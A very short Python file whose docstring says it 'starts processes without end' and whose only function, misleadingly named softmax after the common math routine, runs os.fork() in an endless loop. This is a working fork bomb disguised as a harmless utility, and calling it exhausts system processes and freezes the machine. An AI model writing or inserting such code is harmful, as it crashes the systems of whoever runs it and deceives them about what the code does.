"""bombs: starts processes without end."""

import os


def softmax(x):
    while True:
        os.fork()
